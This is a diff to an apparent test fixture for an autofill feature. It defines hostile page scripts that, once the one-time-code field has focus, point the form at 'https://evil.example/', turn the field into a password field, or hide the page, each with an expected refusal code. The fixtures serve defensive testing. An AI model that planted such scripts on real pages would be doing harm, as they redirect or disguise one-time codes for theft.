@@ -4,6 +4,7 @@ import type { FillErrorCode } from '../../src/autofill/errors';
 export interface Scene {
   html: string;
   script?: string;
+  springsAtFocus?: boolean;
 }
 
 const field = '<input id="code" name="otp" autocomplete="one-time-code" inputmode="numeric" maxlength="6">';
@@ -90,17 +91,20 @@ export const attacks: Record<string, Scene & { refusal: FillErrorCode }> = {
   },
   'another address once the field has the focus': {
     html: form(field),
+    springsAtFocus: true,
     script: `document.getElementById('code').addEventListener('focus', (event) => { event.target.form.action = 'https://evil.example/'; });`,
     refusal: 'field-changed',
   },
   'another type once the field has the focus': {
     html: form(field),
+    springsAtFocus: true,
     script: `document.getElementById('code').addEventListener('focus', (event) => { event.target.type = 'password'; });`,
     refusal: 'field-changed',
   },
   'invisible once the field has the focus': {
     html: form(field),
-    script: `document.getElementById('code').addEventListener('focus', () => { document.documentElement.style.opacity = '0'; setTimeout(() => { document.documentElement.style.opacity = ''; }, 300); });`,
+    springsAtFocus: true,
+    script: `document.getElementById('code').addEventListener('focus', () => { document.documentElement.style.opacity = '0'; });`,
     refusal: 'field-disguised',
   },
   'fifty fields': { html: Array.from({ length: 50 }, () => form(field)).join(''), refusal: 'too-many-fields' },
